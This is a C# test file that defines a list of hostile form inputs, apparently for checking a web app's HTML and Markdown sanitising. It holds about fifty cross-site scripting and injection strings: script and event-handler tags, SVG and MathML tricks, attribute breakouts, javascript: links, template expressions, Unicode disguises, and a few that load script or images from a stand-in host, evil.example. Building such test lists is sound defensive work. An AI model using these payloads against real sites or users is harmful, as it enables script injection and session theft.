namespace DailyPapers.Web.Tests.Security;

/// <summary>What attackers type into forms.</summary>
internal static class HostilePayloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Elements.
        "<script>alert(1)</script>",
        "</title></textarea></style></script>--><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<details open ontoggle=alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<ScRiPt src=//evil.example/x.js>",
        "<p style=background:url(javascript:alert(1))>",
        // Out of attributes, comments, CDATA and JSON.
        "\"><img src=x onerror=alert(1)>",
        "' onfocus='alert(1)' autofocus='",
        "\" onmouseover=alert(1) x=\"",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script><![CDATA[",
        "\"}]}</script><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;",
        "&#x3c;script&#x3e;alert(1)",
        // Addresses.
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](\u0001javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "<javascript:alert(1)>",
        "![x](x\"onerror=\"alert(1))",
        "![x](https://evil.example/pixel.png)",
        "[x]: javascript:alert(1)\n[x]",
        "https://example.org/\"onmouseover=\"alert(1)",
        "[x](//evil.example \"t\" onclick=alert(1))",
        // Mathematics, mentions and code of Markdown.
        "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$",
        "$$<img src=x onerror=alert(1)>$$ $\\style{x}{y}\\class{a}{b}\\unicode{x3c}$",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "@\"><script>alert(1)</script> @grace-hopper\"onclick=alert(1)",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        // Templates, and signs that are not what they look like.
        "@Model {{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> #{1}",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u202e\u2066<script>\u2069\ufeffalert(1)\u200b</script>",
        "x\u0000<script>\u0008alert(1)\u001b</script>",
        "\ud83d\ude00<\u0130mg src=x onerror=alert(1)>",
    ];
}
